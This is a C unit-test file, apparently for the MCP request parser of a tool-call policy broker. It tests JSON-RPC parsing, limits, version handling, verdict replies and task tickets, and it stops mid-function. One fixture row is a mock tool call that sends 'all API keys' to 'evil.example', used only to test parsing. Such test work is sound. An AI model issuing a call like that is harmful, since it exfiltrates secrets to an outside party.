/* Tests of mcp: what each line becomes, and the limits. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "mcp_parts.h"

#define REQ(method, params)                                                    \
	"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"" method                   \
	"\",\"params\":" params "}"
#define CALL(params) REQ("tools/call", params)
/* The same, cut off inside of the params. */
#define OPEN(params)                                                           \
	"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\","             \
	"\"params\":" params
#define INIT REQ("initialize", "{\"protocolVersion\":\"2025-06-18\"}")

/* What a request of 2026-07-28 has in its params. */
#define META(version, capabilities)                                            \
	"\"_meta\":{\"io.modelcontextprotocol/protocolVersion\":\"" version    \
	"\",\"io.modelcontextprotocol/clientCapabilities\":" capabilities "}"
#define NOW	     META("2026-07-28", "{}")
#define TASKS	     META("2026-07-28", "{\"extensions\":{\"" MCP_TASKS "\":{}}}")
#define TASK(method) REQ("tasks/" method, "{\"taskId\":\"q7\"," TASKS "}")

struct row {
	const char *line;
	bool first; /* before initialize */
	enum mcp_kind kind;
	int code; /* of the error, 0 if none */
};

static const struct row rows[] = {
	{ INIT, true, MCP_REPLY, 0 },
	{ REQ("ping", "{}"), true, MCP_REPLY, 0 },
	{ REQ("ping", "{}"), false, MCP_REPLY, 0 },
	{ REQ("tools/list", "{}"), true, MCP_REPLY, MCP_ERR_REQUEST },
	{ REQ("tools/list", "{}"), false, MCP_TOOLS, 0 },
	{ "{\"jsonrpc\":\"2.0\",\"id\":\"a\",\"method\":\"tools/list\"}", false,
	  MCP_TOOLS, 0 },
	{ REQ("tools/list", "{\"cursor\":\"x\"}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ INIT, false, MCP_REPLY, MCP_ERR_REQUEST },
	{ REQ("initialize", "{}"), true, MCP_REPLY, MCP_ERR_PARAMS },
	{ REQ("resources/list", "{}"), false, MCP_REPLY, MCP_ERR_METHOD },
	{ "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}",
	  false, MCP_NOTHING, 0 },
	{ "{\"jsonrpc\":\"2.0\",\"method\":\"tools/call\",\"params\":"
	  "{\"name\":\"x\"}}",
	  false, MCP_NOTHING, 0 },
	/* malformed */
	{ "", false, MCP_REPLY, MCP_ERR_PARSE },
	{ "{", false, MCP_REPLY, MCP_ERR_PARSE },
	{ "{} {}", false, MCP_REPLY, MCP_ERR_PARSE },
	{ "{\"id\":1,\"id\":2}", false, MCP_REPLY, MCP_ERR_PARSE },
	{ "\"\xff\"", false, MCP_REPLY, MCP_ERR_PARSE },
	{ "{\"a\":\"\\u0000\"}", false, MCP_REPLY, MCP_ERR_PARSE },
	{ "{}", false, MCP_REPLY, MCP_ERR_REQUEST },
	{ "1", false, MCP_REPLY, MCP_ERR_PARSE },
	{ "[" INIT "]", false, MCP_REPLY, MCP_ERR_REQUEST },
	{ "{\"jsonrpc\":\"1.0\",\"id\":1,\"method\":\"ping\"}", false,
	  MCP_REPLY, MCP_ERR_REQUEST },
	{ "{\"jsonrpc\":\"2.0\",\"id\":null,\"method\":\"ping\"}", false,
	  MCP_REPLY, MCP_ERR_REQUEST },
	{ "{\"jsonrpc\":\"2.0\",\"id\":1.5,\"method\":\"ping\"}", false,
	  MCP_REPLY, MCP_ERR_REQUEST },
	{ "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\",\"x\":1}", false,
	  MCP_REPLY, MCP_ERR_REQUEST },
	{ REQ("ping", "[]"), false, MCP_REPLY, MCP_ERR_REQUEST },
	{ "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}", false, MCP_REPLY,
	  MCP_ERR_REQUEST },
	/* calls */
	{ CALL("{\"name\":\"email.send\"}"), true, MCP_REPLY, MCP_ERR_REQUEST },
	{ CALL("{\"name\":\"email.send\"}"), false, MCP_CALL, 0 },
	{ CALL("{\"name\":\"send_data_to_external_server\",\"arguments\":"
	       "{\"target\":\"evil.example\",\"data\":\"all API keys\"}}"),
	  false, MCP_CALL, 0 },
	{ CALL("{\"name\":\"\xc3\xbc b\"}"), false, MCP_CALL, 0 },
	{ CALL("{\"name\":\"\"}"), false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"a\\nb\"}"), false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"a\\u009bb\"}"), false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":7}"), false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"arguments\":{}}"), false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":[]}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"more\":1}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":null}}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{}}}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":[1]}}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":[[]]}}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"\":1}}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	/* references and templates are these two forms alone */
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{\"$ref\":1}}}"), false,
	  MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{\"$ref\":\"@1\",\"x\":1}}"
	       "}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{\"x\":\"@1\"}}}"), false,
	  MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{\"$tmpl\":\"t\"}}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{\"$tmpl\":\"t\",\"args\":"
	       "[\"u\"]}}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{\"$tmpl\":\"t\",\"args\":"
	       "{}}}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{\"$tmpl\":\"t\",\"args\":"
	       "[{\"$tmpl\":\"u\",\"args\":[]}]}}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":{\"$tmpl\":1,\"args\":[]}}"
	       "}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":[{\"$ref\":2}]}}"), false,
	  MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":[[{\"$ref\":\"@1\"}]]}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	/* our own tools */
	{ CALL("{\"name\":\"task.get\"}"), false, MCP_TASK, 0 },
	{ CALL("{\"name\":\"task.get\",\"arguments\":{\"a\":1}}"), false,
	  MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"task.answer\",\"arguments\":{\"text\":\"hi\"}}"),
	  false, MCP_ANSWER, 0 },
	{ CALL("{\"name\":\"task.answer\",\"arguments\":{\"text\":1}}"), false,
	  MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"task.answer\"}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"task.answer\",\"arguments\":{\"text\":\"\","
	       "\"x\":1}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":\"q7\"}"
	       "}"),
	  false, MCP_WAIT, 0 },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":\"q7\","
	       "\"seconds\":0}}"),
	  false, MCP_WAIT, 0 },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":\"q7\","
	       "\"seconds\":60}}"),
	  false, MCP_WAIT, 0 },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":\"q7\","
	       "\"seconds\":61}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":\"q7\","
	       "\"seconds\":-1}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":\"q7\","
	       "\"seconds\":\"1\"}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":7}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":\"7\"}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":\"q0\"}"
	       "}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{}}"), false,
	  MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{\"ticket\":\"q7\","
	       "\"x\":1}}"),
	  false, MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\"}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	/* what a client of another revision may have, without meaning here */
	{ CALL("{\"name\":\"x\",\"task\":{\"ttl\":1}}"), false, MCP_CALL, 0 },
	{ CALL("{\"name\":\"x\",\"task\":1}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"inputResponses\":{},\"requestState\":\"s\"}"),
	  false, MCP_CALL, 0 },
	{ CALL("{\"name\":\"x\",\"inputResponses\":null}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"requestState\":{}}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"_meta\":{\"progressToken\":\"t\"}}"), false,
	  MCP_CALL, 0 },
	{ CALL("{\"name\":\"x\",\"_meta\":{\"progressToken\":7}}"), false,
	  MCP_CALL, 0 },
	{ CALL("{\"name\":\"x\",\"_meta\":{\"progressToken\":1.5}}"), false,
	  MCP_REPLY, MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\",\"_meta\":[]}"), false, MCP_REPLY,
	  MCP_ERR_PARAMS },
	/* 2026-07-28: each request says so, before initialize and after it */
	{ REQ("server/discover", "{" NOW "}"), true, MCP_REPLY, 0 },
	{ REQ("server/discover", "{" NOW "}"), false, MCP_REPLY, 0 },
	{ REQ("server/discover", "{}"), true, MCP_REPLY, MCP_ERR_PARAMS },
	{ REQ("server/discover", "{}"), false, MCP_REPLY, MCP_ERR_METHOD },
	{ REQ("server/discover",
	      "{\"_meta\":{\"io.modelcontextprotocol/protocolVersion\":"
	      "\"2026-07-28\"}}"),
	  true, MCP_REPLY, MCP_ERR_PARAMS },
	{ REQ("server/discover", "{\"_meta\":{\"io.modelcontextprotocol/"
				 "clientCapabilities\":{}}}"),
	  true, MCP_REPLY, MCP_ERR_PARAMS },
	{ REQ("server/discover", "{" META("2026-07-28", "[]") "}"), true,
	  MCP_REPLY, MCP_ERR_PARAMS },
	{ REQ("server/discover",
	      "{\"_meta\":{\"io.modelcontextprotocol/protocolVersion\":"
	      "\"2026-07-28\",\"io.modelcontextprotocol/"
	      "clientCapabilities\":{},"
	      "\"io.modelcontextprotocol/clientInfo\":1}}"),
	  true, MCP_REPLY, MCP_ERR_PARAMS },
	{ REQ("server/discover", "{" META("2025-11-25", "{}") "}"), true,
	  MCP_REPLY, MCP_ERR_VERSION },
	{ REQ("tools/call", "{\"name\":\"x\"," META("1900-01-01", "{}") "}"),
	  false, MCP_REPLY, MCP_ERR_VERSION },
	{ REQ("tools/list", "{" NOW "}"), true, MCP_TOOLS, 0 },
	{ REQ("tools/list", "{\"cursor\":\"x\"," NOW "}"), true, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"x\"," NOW "}"), true, MCP_CALL, 0 },
	{ CALL("{\"name\":\"task.get\"," NOW "}"), false, MCP_TASK, 0 },
	{ REQ("initialize", "{\"protocolVersion\":\"2025-06-18\"," NOW "}"),
	  true, MCP_REPLY, MCP_ERR_METHOD },
	{ REQ("ping", "{" NOW "}"), false, MCP_REPLY, MCP_ERR_METHOD },
	{ REQ("subscriptions/listen", "{" NOW "}"), true, MCP_REPLY,
	  MCP_ERR_METHOD },
	/* an argument that is wrong is a result, which a model can mend */
	{ CALL("{\"name\":\"x\",\"arguments\":{\"a\":null}," NOW "}"), true,
	  MCP_REPLY, 0 },
	{ CALL("{\"name\":\"x\",\"arguments\":[]," NOW "}"), true, MCP_REPLY,
	  MCP_ERR_PARAMS },
	{ CALL("{\"name\":\"bulkhead.wait\",\"arguments\":{}," NOW "}"), true,
	  MCP_REPLY, 0 },
	/* tasks: of clients that know them, and of tickets that we gave */
	{ REQ("tasks/get", "{\"taskId\":\"q7\"," NOW "}"), true, MCP_REPLY,
	  MCP_ERR_CAPABILITY },
	{ REQ("tasks/cancel", "{\"taskId\":\"q7\"," NOW "}"), true, MCP_REPLY,
	  MCP_ERR_CAPABILITY },
	{ REQ("tasks/update", "{\"taskId\":\"q7\"," NOW "}"), true, MCP_REPLY,
	  MCP_ERR_CAPABILITY },
	{ TASK("get"), true, MCP_REPLY, MCP_ERR_PARAMS },
	{ TASK("cancel"), true, MCP_REPLY, MCP_ERR_PARAMS },
	{ TASK("update"), true, MCP_REPLY, MCP_ERR_PARAMS },
	{ REQ("tasks/get", "{" TASKS "}"), true, MCP_REPLY, MCP_ERR_PARAMS },
	{ REQ("tasks/get", "{\"taskId\":\"q7\"}"), false, MCP_REPLY,
	  MCP_ERR_METHOD },
	{ TASK("list"), true, MCP_REPLY, MCP_ERR_METHOD },
	{ TASK("result"), true, MCP_REPLY, MCP_ERR_METHOD },
	{ "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/cancelled\","
	  "\"params\":{\"requestId\":1}}",
	  true, MCP_NOTHING, 0 },
};

/* Reads one line; returns the kind, the error code and the error count. */
static enum mcp_kind read_line(struct span line, bool initialized, int *code,
			       uint32_t *errors)
{
	struct mcp m = { .version = initialized ? MCP_2025_06_18 : MCP_NONE };
	struct mcp_request r;
	enum mcp_kind kind;
	struct buf reply;
	json_t *doc;

	buf_init(&reply, MCP_REPLY_MAX);
	mcp_read(&m, line, &r, &reply);
	kind = r.kind;
	*code = 0;
	*errors = m.errors;
	assert_int_equal(reply.n > 0, kind == MCP_REPLY);
	if (reply.n) {
		assert_int_equal(reply.p[reply.n - 1], '\n');
		doc = json_loadb((const char *)reply.p, reply.n, 0, NULL);
		assert_non_null(doc);
		*code = (int)json_integer_value(
			json_object_get(json_object_get(doc, "error"), "code"));
		json_decref(doc);
	}
	mcp_request_done(&r);
	buf_done(&reply);
	return kind;
}

static void test_rows(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(rows); i++) {
		uint32_t errors;
		int code;
		enum mcp_kind kind = read_line(span_str(rows[i].line),
					       !rows[i].first, &code, &errors);

		if (kind != rows[i].kind || code != rows[i].code)
			fail_msg("%s: got kind %d code %d, want %d %d",
				 rows[i].line, (int)kind, code,
				 (int)rows[i].kind, rows[i].code);
		if (code && errors != 1)
			fail_msg("%s: not counted", rows[i].line);
	}
}

static void test_types(void **state)
{
	static const char line[] =
		CALL("{\"name\":\"x\",\"arguments\":{\"s\":\"t\xc3\xbc\","
		     "\"i\":-7,\"n\":1.5,\"b\":true,\"l\":[\"p\",\"q\"],"
		     "\"e\":[],\"r\":{\"$ref\":\"@15\"},"
		     "\"t\":[{\"$tmpl\":\"Hi {0}\",\"args\":"
		     "[{\"$ref\":\"@13.name\"}]},\"z\"]}}");
	static const struct {
		const char *name;
		int json, shape;
		const char *value;
	} want[] = {
		{ "s", ARG_STRING, ARG_SCALAR, "t\xc3\xbc" },
		{ "i", ARG_INTEGER, ARG_SCALAR, "-7" },
		{ "n", ARG_NUMBER, ARG_SCALAR, "1.5" },
		{ "b", ARG_BOOL, ARG_SCALAR, "true" },
		{ "l", ARG_STRING, ARG_ELEMENT, "p" },
		{ "l", ARG_STRING, ARG_ELEMENT, "q" },
		{ "e", ARG_STRING, ARG_EMPTY_LIST, "" },
		{ "r", ARG_REF, ARG_SCALAR, "@15" },
		{ "t", ARG_TEMPLATE, ARG_ELEMENT, "Hi {0}" },
		{ "t", ARG_FILL, ARG_ELEMENT, "@13.name" },
		{ "t", ARG_STRING, ARG_ELEMENT, "z" },
	};
	struct mcp m = { .version = MCP_2025_06_18 };
	struct mcp_request r;
	struct buf reply;
	size_t i;

	(void)state;
	buf_init(&reply, MCP_REPLY_MAX);
	mcp_read(&m, span_str(line), &r, &reply);
	assert_int_equal(r.kind, MCP_CALL);
	assert_int_equal(r.call.n, ARRAY_SIZE(want));
	for (i = 0; i < ARRAY_SIZE(want); i++) {
		const struct m_arg *a = &r.call.args[i];

		assert_true(span_is(a->name, want[i].name));
		assert_int_equal(a->json, want[i].json);
		assert_int_equal(a->shape, want[i].shape);
		assert_true(span_is(a->value, want[i].value));
	}
	mcp_request_done(&r);
	buf_done(&reply);
}

static void repeat(struct buf *b, const char *s, size_t n)
{
	while (n--)
		buf_str(b, s);
}

/* A line of head, n times unit, tail. */
static enum mcp_kind read_long(const char *head, const char *unit, size_t n,
			       const char *tail)
{
	enum mcp_kind kind;
	uint32_t errors;
	struct buf b;
	int code;

	buf_init(&b, 1 << 20);
	buf_str(&b, head);
	repeat(&b, unit, n);
	buf_str(&b, tail);
	kind = read_line(buf_view(&b), true, &code, &errors);
	buf_done(&b);
	return kind;
}

static void test_limits(void **state)
{
	static const struct {
		const char *what, *head, *unit, *tail;
		size_t max;
		enum mcp_kind ok;
	} limits[] = {
		{ "name", OPEN("{\"name\":\""), "n", "\"}}", LIMIT_NAME,
		  MCP_CALL },
		{ "argument name", OPEN("{\"name\":\"x\",\"arguments\":{\""),
		  "n", "\":1}}}", LIMIT_NAME, MCP_CALL },
		{ "list", OPEN("{\"name\":\"x\",\"arguments\":{\"l\":[\"\""),
		  ",\"\"", "]}}}", LIMIT_ARGS - 1, MCP_CALL },
		{ "value", OPEN("{\"name\":\"x\",\"arguments\":{\"v\":\""), "v",
		  "\"}}}", LIMIT_ARG_BYTES, MCP_CALL },
		{ "answer",
		  OPEN("{\"name\":\"task.answer\",\"arguments\":{\"text\":\""),
		  "v", "\"}}}", LIMIT_ANSWER, MCP_ANSWER },
		{ "id",
		  "{\"jsonrpc\":\"2.0\",\"method\":\"tools/list\",\"id\":\"",
		  "i", "\"}", MCP_ID_MAX, MCP_TOOLS },
	};
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(limits); i++) {
		char head[256];
		const size_t max = limits[i].max;
		size_t n = strlen(limits[i].head);

		/* OPEN() closes what the row wants open. */
		if (limits[i].head[n - 1] == '}')
			n--;
		(void)snprintf(head, sizeof(head), "%.*s", (int)n,
			       limits[i].head);
		for (n = max - 1; n <= max + 1; n++) {
			enum mcp_kind kind =
				read_long(limits[i].head, limits[i].unit, n,
					  limits[i].tail);

			if (kind != (n > max ? MCP_REPLY : limits[i].ok))
				fail_msg("%s %zu: got kind %d", limits[i].what,
					 n, (int)kind);
		}
	}
}

/* Brackets: the parser never sees more than MCP_DEPTH_MAX of them. */
static void test_depth(void **state)
{
	static const char head[] =
		"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\","
		"\"params\":{\"a\":";
	char line[512];
	int d;

	(void)state;
	for (d = -1; d <= 1; d++) {
		int n = MCP_DEPTH_MAX - 2 + d;
		uint32_t errors;
		int code;

		(void)snprintf(line, sizeof(line), "%s%.*s%.*s}}", head, n,
			       "[[[[[[[[[[[[[[[[[[[[", n,
			       "]]]]]]]]]]]]]]]]]]]]");
		(void)read_line(span_str(line), true, &code, &errors);
		assert_int_equal(code, d > 0 ? MCP_ERR_PARSE : 0);
	}
	(void)snprintf(line, sizeof(line), "%s\"[[[[[[[[[[[[[[[[[[\\\"[\"}}",
		       head);
	{
		uint32_t errors;
		int code;

		(void)read_line(span_str(line), true, &code, &errors);
		assert_int_equal(code, 0);
	}
}

static void test_versions(void **state)
{
	static const struct {
		const char *asked, *got;
	} versions[] = { { "2025-06-18", "2025-06-18" },
			 { "2025-11-25", "2025-11-25" },
			 { "2025-03-26", "2025-11-25" },
			 { "2026-07-28", "2025-11-25" },
			 { "1999-01-01", "2025-11-25" } };
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(versions); i++) {
		struct mcp m = { 0 };
		struct mcp_request r;
		struct buf reply;
		char line[256];

		(void)snprintf(
			line, sizeof(line),
			REQ("initialize", "{\"protocolVersion\":\"%s\"}"),
			versions[i].asked);
		buf_init(&reply, 4096);
		mcp_read(&m, span_str(line), &r, &reply);
		assert_int_not_equal(m.version, MCP_NONE);
		(void)snprintf(line, sizeof(line), "\"protocolVersion\":\"%s\"",
			       versions[i].got);
		assert_non_null(strstr(buf_cstr(&reply), line));
		mcp_request_done(&r);
		buf_done(&reply);
	}
}

/* A request to answer, and the parsed reply. */
static json_t *parse_reply(struct buf *reply)
{
	json_t *doc = json_loadb((const char *)reply->p, reply->n, 0, NULL);

	assert_non_null(doc);
	assert_int_equal(json_integer_value(json_object_get(doc, "id")), 1);
	return doc;
}

static void test_call_replies(void **state)
{
	const struct {
		struct m_call_result result;
		const char *verdict;
		bool is_error;
		const char *status;
	} results[] = {
		{ { .verdict = VERDICT_DENY,
		    .clause = SPAN_LIT("p.yaml:1:1 deny"),
		    .reason = SPAN_LIT("no \"such\" capability\n") },
		  "deny",
		  true },
		{ { .verdict = VERDICT_ALLOW, .executed = 1 }, "allow", false },
		{ { .verdict = VERDICT_ALLOW,
		    .reason = SPAN_LIT("the outbox is full") },
		  "allow",
		  true },
		{ { .verdict = VERDICT_ASK, .ticket = 7 },
		  "ask",
		  false,
		  "pending" },
		{ { .verdict = VERDICT_ALLOW, .ticket = 7 },
		  "allow",
		  false,
		  "held" },
		{ { .verdict = VERDICT_ALLOW, .executed = 1, .ticket = 7 },
		  "allow",
		  false,
		  NULL },
	};
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(results); i++) {
		struct mcp m = { .version = MCP_2025_06_18 };
		struct mcp_request r;
		json_t *doc, *result, *v;
		const char *status;
		struct buf reply;

		buf_init(&reply, 4096);
		mcp_read(&m, span_str(CALL("{\"name\":\"x\"}")), &r, &reply);
		mcp_reply_call(&reply, &m, &r, &results[i].result, 0);
		doc = parse_reply(&reply);
		result = json_object_get(doc, "result");
		v = json_object_get(result, "structuredContent");
		assert_string_equal(
			json_string_value(json_object_get(v, "verdict")),
			results[i].verdict);
		assert_int_equal(
			json_is_true(json_object_get(result, "isError")),
			results[i].is_error);
		assert_int_equal(json_is_true(json_object_get(v, "executed")),
				 results[i].result.executed);
		assert_int_equal(json_object_get(v, "clause") != NULL,
				 results[i].result.clause.n > 0);
		status = json_string_value(json_object_get(v, "status"));
		assert_int_equal(status != NULL, results[i].status != NULL);
		if (status) {
			assert_string_equal(status, results[i].status);
			assert_string_equal(
				json_string_value(json_object_get(v, "ticket")),
				"q7");
		}
		json_decref(doc);
		mcp_request_done(&r);
		buf_done(&reply);
	}
}

static void test_tools_reply(void **state)
{
	const struct m_tool tool = {
		.name = SPAN_LIT("email.send"),
		.description = SPAN_LIT("Sends."),
		.schema = SPAN_LIT("{\"type\":\"object\"}"),
	};
	const struct m_tool bad = { .name = SPAN_LIT("x"),
				    .schema = SPAN_LIT("[]") };
	struct mcp m = { .version = MCP_2025_06_18 };
	json_t *list = json_array();
	struct mcp_request r;
	struct buf reply;
	json_t *doc, *tools;

	(void)state;
	assert_null(mcp_tool(&bad));
	assert_int_equal(json_array_append_new(list, mcp_tool(&tool)), 0);
	buf_init(&reply, 65536);
	mcp_read(&m, span_str(REQ("tools/list", "{}")), &r, &reply);
	mcp_reply_tools(&reply, &r, list);
	doc = parse_reply(&reply);
	tools = json_object_get(json_object_get(doc, "result"), "tools");
	assert_int_equal(json_array_size(tools), 4);
	assert_string_equal(json_string_value(json_object_get(
				    json_array_get(tools, 3), "name")),
			    "email.send");
	assert_true(json_is_object(
		json_object_get(json_array_get(tools, 1), "inputSchema")));
	json_decref(doc);
	json_decref(list);
	mcp_request_done(&r);
	buf_done(&reply);
}

/* Reads a request of m and has it answered, if it is for the broker. */
static json_t *ask(struct mcp *m, const char *line,
		   const struct m_call_result *result, uint64_t now_s)
{
	struct mcp_request r;
	struct buf reply;
	json_t *doc;

	buf_init(&reply, 65536);
	mcp_read(m, span_str(line), &r, &reply);
	if (r.kind >= MCP_WAIT)
		mcp_reply_call(&reply, m, &r, result, now_s);
	doc = parse_reply(&reply);
	mcp_request_done(&r);
	buf_done(&reply);
	return doc;
}

static const char *text_in(const json_t *v, const char *key)
{
	const char *text = json_string_value(json_object_get(v, key));

	return text ? text : "";
}

static struct m_call_result waits(void)
{
	return (struct m_call_result){
		.verdict = VERDICT_ASK,
		.ticket = 7,
		.reason = SPAN_LIT("the owner has been asked"),
	};
}

/* A ticket as a task: made, asked for, over; what it says stays so. */
static void test_tasks(void **state)
{
	static const char call[] = CALL("{\"name\":\"x\"," TASKS "}");
	const struct m_call_result pending = waits();
	const struct m_call_result done = { .verdict = VERDICT_ALLOW,
					    .executed = 1,
					    .reason = SPAN_LIT("done"),
					    .text = SPAN_LIT("a \"note\"") };
	struct mcp m = { 0 };
	json_t *doc = ask(&m, call, &pending, 1785196800);
	const json_t *v = json_object_get(doc, "result");
	int i;

	(void)state;
	assert_string_equal(text_in(v, "resultType"), "task");
	assert_string_equal(text_in(v, "taskId"), "q7");
	assert_string_equal(text_in(v, "status"), "working");
	assert_string_equal(text_in(v, "createdAt"),
			    "2026-07-28T00:00:00.000Z");
	assert_true(json_is_null(json_object_get(v, "ttlMs")));
	assert_null(json_object_get(v, "content"));
	json_decref(doc);
	doc = ask(&m, TASK("get"), &pending, 1785196801);
	v = json_object_get(doc, "result");
	assert_string_equal(text_in(v, "resultType"), "complete");
	assert_string_equal(text_in(v, "status"), "working");
	assert_null(json_object_get(v, "result"));
	json_decref(doc);
	for (i = 0; i < 2; i++) {
		doc = ask(&m, TASK("get"), &done, 1785196860 + (uint64_t)i);
		v = json_object_get(doc, "result");
		assert_string_equal(text_in(v, "status"), "completed");
		assert_string_equal(text_in(v, "createdAt"),
				    "2026-07-28T00:00:00.000Z");
		assert_string_equal(text_in(v, "lastUpdatedAt"),
				    "2026-07-28T00:01:00.000Z");
		v = json_object_get(v, "result");
		assert_true(json_is_false(json_object_get(v, "isError")));
		assert_true(json_is_true(json_object_get(
			json_object_get(v, "structuredContent"), "executed")));
		assert_string_equal(
			text_in(json_object_get(v, "structuredContent"),
				"text"),
			"a \"note\"");
		json_decref(doc);
	}
	for (i = 0; i < 2; i++) {
		doc = ask(&m,
			  i ? TASK("cancel")
			    : REQ("tasks/update",
				  "{\"taskId\":\"q7\","
				  "\"inputResponses\":{}," TASKS "}"),
			  NULL, 0);
		v = json_object_get(doc, "result");
		assert_string_equal(text_in(v, "resultType"), "complete");
		assert_null(json_object_get(v, "status"));
		json_decref(doc);
	}
	assert_int_equal(m.errors, 0);
}

/* Without tasks it is a result; a task it is for whoever asks for it later. */
static void test_tickets(void **state)
{
	struct mcp m = { 0 };
	struct m_call_result result = waits();
	json_t *doc = ask(&m, CALL("{\"name\":\"x\"," NOW "}"), &result, 1);
	const json_t *v = json_object_get(doc, "result");
	size_t i;

	(void)state;
	assert_string_equal(text_in(v, "resultType"), "complete");
	assert_string_equal(
		text_in(json_object_get(v, "structuredContent"), "ticket"),
		"q7");
	assert_string_equal(
		text_in(json_object_get(json_object_get(v, "_meta"),
					"io.modelcontextprotocol/serverInfo"),
			"name"),
		"bulkhead");
	json_decref(doc);
	doc = ask(&m, TASK("get"), &result, 1);
	assert_string_equal(text_in(json_object_get(doc, "result"), "taskId"),
			    "q7");
	json_decref(doc);
	/* As many as there is room for; the next is a ticket alone. */
	for (i = 1; i <= MCP_TICKETS_MAX; i++) {
		result.ticket = 100 + i;
		doc = ask(&m, CALL("{\"name\":\"x\"," TASKS "}"), &result, 1);
		assert_string_equal(
			text_in(json_object_get(doc, "result"), "resultType"),
			i < MCP_TICKETS_MAX ? "task" : "complete");
		json_decref(doc);
	}
}

/* Once the task is answered the porter refuses by itself, each as it is asked:
 * a call by a result, a task by an error. */
static void test_refusals(void **state)
{
	static const char *const lines[] = { CALL("{\"name\":\"x\"}"),
					     TASK("get") };
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(lines); i++) {
		struct mcp m = { .version = MCP_2025_11_25,
				 .n_tickets = 1,
				 .tickets = { { .ticket = 7 } } };
		struct mcp_request r;
		struct buf reply;
		json_t *doc;

		buf_init(&reply, 4096);
		mcp_read(&m, span_str(lines[i]), &r, &reply);
		assert_true(r.kind >= MCP_TASK);
		mcp_reply_refusal(&reply, &r, "no more");
